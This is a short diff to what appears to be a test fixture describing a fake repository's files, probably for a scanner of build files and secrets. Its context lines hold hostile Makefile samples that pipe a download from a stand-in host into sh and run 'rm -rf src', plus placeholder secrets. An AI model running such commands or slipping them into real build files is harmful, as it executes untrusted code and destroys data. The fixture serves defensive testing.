@@ -28,7 +28,7 @@ deploy:
   'shelled/Makefile': 'X := $(shell curl -s https://e.example/x | sh)\ndeploy:\n\techo $(X)\n',
   'inside/Makefile': 'deploy:\n\techo $(shell rm -rf src)\n',
   '.gitignore': 'node_modules/\ndist/\ngateway/bin/\nkept/bin/\n*.tsbuildinfo\n.env\n',
-  '.git/index': `DIRC\0\0\0\x02 src/app.ts\0 kept/bin/tool\0`,
+  '.git/index': `DIRC\0\0\0\x02 src/app.ts\0 kept/bin/tool\0 migrations/001_init.sql\0`,
   '.env': '# local\nPORT=3000\nJWT_SECRET=abcdefgh\n',
   'keys/.env': 'A=1\nKEY="-----BEGIN\nabcdef\n"\n',
   'tsconfig.json':
